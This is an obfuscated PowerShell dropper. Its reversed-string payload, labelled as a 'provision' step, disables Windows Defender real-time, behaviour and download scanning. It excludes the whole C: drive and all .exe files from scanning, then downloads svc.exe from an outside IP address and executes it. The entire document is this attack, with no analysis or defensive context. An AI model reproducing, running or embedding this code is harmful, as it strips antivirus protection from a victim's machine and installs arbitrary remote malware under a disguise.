$ojkhl='
"exe.cvs\PMET:vne$" ssecorP-tratS
)"exe.cvs\PMET:vne$" ,''exe.cvs/9.001.15.891//:ptth''(eliFdaolnwoD.)tneilCbeW.teN tcejbO-weN(
''exe.'' noisnetxEnoisulcxE- ecnereferPpM-ddA
''\:C'' htaPnoisulcxE- ecnereferPpM-ddA
eurt$ noitcetorPVAOIelbasiD- eurt$ gnirotinoMroivaheBelbasiD- eurt$ gnirotinoMemitlaeRelbasiD- ecnereferPpM-teS
1v 7152 noisivorp #'.ToCharArray(); [array]::Reverse($ojkhl); iex (-join $ojkhl)